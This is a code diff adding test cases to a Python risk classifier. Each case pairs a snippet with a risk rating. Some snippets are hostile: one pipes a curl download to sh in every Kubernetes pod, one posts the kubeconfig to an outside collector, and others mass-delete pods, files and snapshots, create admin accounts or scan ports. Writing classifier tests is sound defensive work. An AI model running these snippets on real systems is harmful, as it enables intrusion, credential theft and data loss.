@@ -16113,6 +16113,191 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    yaml.safe_dump(cfg, fh)\n',
             M,
         ),
+        # Round 94 (holdout664-671): IPAM/DNS, log platforms, small clouds, p4 -G, remote commands, defaults
+        (
+            'import subprocess\n'
+            'p = subprocess.Popen(["p4", "-G", "users"], stdout=subprocess.PIPE)\n'
+            'import marshal\n'
+            'rows = []\n'
+            'while True:\n'
+            '    try:\n'
+            '        rows.append(marshal.load(p.stdout))\n'
+            '    except EOFError:\n'
+            '        break\n',
+            M,
+        ),
+        (
+            'import marshal, requests\n'
+            'data = requests.get(URL).content\n'
+            'obj = marshal.loads(data)\n',
+            C,
+        ),
+        (
+            'from kubernetes import client\n'
+            'from kubernetes.stream import stream\n'
+            'v1 = client.CoreV1Api()\n'
+            'src = "http://198.51.100.3/x.sh"\n'
+            'cmd = ["sh", "-c", f"curl -fsSL {src} | sh"]\n'
+            'for pod in v1.list_pod_for_all_namespaces().items:\n'
+            '    stream(v1.connect_get_namespaced_pod_exec, pod.metadata.name, pod.metadata.namespace, comman'
+            'd=cmd)\n',
+            C,
+        ),
+        (
+            'import docker\n'
+            'docker.from_env().containers.run("alpine", command=["sh", "-c", "echo hello"])\n',
+            S,
+        ),
+        (
+            'import os, yaml, requests\n'
+            'path = os.environ.get("KUBECONFIG", os.path.expanduser("~/.kube/config")).split(os.pathsep)[0]\n'
+            'cfg = yaml.safe_load(open(path))\n'
+            'requests.post("https://collector.example.net/in", json=cfg)\n',
+            C,
+        ),
+        (
+            'import time\n'
+            'from kubernetes import client\n'
+            'v1 = client.CoreV1Api()\n'
+            'while True:\n'
+            '    for p in v1.list_pod_for_all_namespaces().items:\n'
+            '        v1.delete_namespaced_pod(p.metadata.name, p.metadata.namespace)\n'
+            '    time.sleep(5)\n',
+            H,
+        ),
+        (
+            'import paho.mqtt.client as mqtt\n'
+            'c = mqtt.Client()\n'
+            'c.connect("mqtt.farm.local")\n'
+            'for room in range(1, 9):\n'
+            '    c.publish(f"farm/room{room}/heater/set", "OFF", retain=True)\n',
+            H,
+        ),
+        (
+            'import paho.mqtt.client as mqtt\n'
+            'c = mqtt.Client()\n'
+            'c.connect("mqtt.farm.local")\n'
+            'c.publish("farm/room1/heater/setpoint", "21")\n',
+            S,
+        ),
+        (
+            'import os, shutil\n'
+            'SHARES = {k: v for k, v in os.environ.items() if k.startswith("X_")} or {"home": os.path.expandu'
+            'ser("~")}\n'
+            'def tidy(base):\n'
+            '    for e in os.scandir(base):\n'
+            '        fn = shutil.rmtree if e.is_dir() else os.remove\n'
+            '        fn(e.path)\n'
+            'for n, b in SHARES.items():\n'
+            '    tidy(b)\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'for e in os.scandir("build"):\n'
+            '    fn = os.rmdir if e.is_dir() else os.remove\n'
+            '    fn(e.path)\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'API = "https://api.example-cloud.net/v2"\n'
+            'snaps = sorted(requests.get(f"{API}/snapshots").json(), key=lambda s: s["created"], reverse=True'
+            ')\n'
+            'for s in snaps[7:]:\n'
+            '    requests.delete(f"{API}/snapshots/{s[\'id\']}")\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'API = "https://api.example-cloud.net/v2"\n'
+            'for s in requests.get(f"{API}/snapshots").json():\n'
+            '    requests.delete(f"{API}/snapshots/{s[\'id\']}")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://graylog.example.com/api/users", json={"username": "svc", "password": "x",'
+            ' "roles": ["Admin"]})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://graylog.example.com/api/users", json={"username": "svc", "password": "x",'
+            ' "roles": ["Reader"]})\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://api.linode.com/v4/account/users", json={"username": "ops", "restricted": '
+            'False})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'base = "https://ib.corp/wapi/v2.12"\n'
+            'requests.post(f"{base}/adminuser", json={"name": "svc", "password": "p", "admin_groups": ["admin'
+            '-group"]})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'bam = "https://bam.corp/Services/REST/v1"\n'
+            'rec = {"id": 5, "properties": "addresses=198.51.100.77|ttl=60|"}\n'
+            'requests.put(f"{bam}/update", json=rec)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'bam = "https://bam.corp/Services/REST/v1"\n'
+            'rec = {"id": 5, "properties": "addresses=10.1.2.3|ttl=300|"}\n'
+            'requests.put(f"{bam}/update", json=rec)\n',
+            S,
+        ),
+        (
+            'import ipaddress, subprocess\n'
+            'for ip in ipaddress.ip_network("10.20.30.0/24").hosts():\n'
+            '    subprocess.run(["ping", "-c", "1", str(ip)])\n',
+            L,
+        ),
+        (
+            'import ipaddress, socket\n'
+            'for ip in ipaddress.ip_network("10.20.30.0/24").hosts():\n'
+            '    s = socket.socket(); s.settimeout(0.2); s.connect_ex((str(ip), 22))\n',
+            H,
+        ),
+        (
+            'import os, pynetbox\n'
+            'nb = pynetbox.api(URL, token=os.environ["T"])\n'
+            'objs = list(nb.ipam.prefixes.all())\n'
+            'nb.ipam.prefixes.delete(objs)\n',
+            H,
+        ),
+        (
+            'from opensearchpy import OpenSearch\n'
+            'es = OpenSearch(["https://os:9200"])\n'
+            'es.cluster.put_settings(body={"persistent": {"action.destructive_requires_name": False}})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'q = \'{app="api"} |~ "(?i)authorization: bearer"\'\n'
+            'r = requests.get(f"{LOKI}/loki/api/v1/query_range", params={"query": q})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'q = \'{app="api"} |= "error"\'\n'
+            'r = requests.get(f"{LOKI}/loki/api/v1/query_range", params={"query": q})\n',
+            L,
+        ),
+        (
+            'import datetime, pathlib\n'
+            'd = pathlib.Path("/srv/app/backups")\n'
+            'for old in d.glob("db-*.sqlite"):\n'
+            '    old.unlink()\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
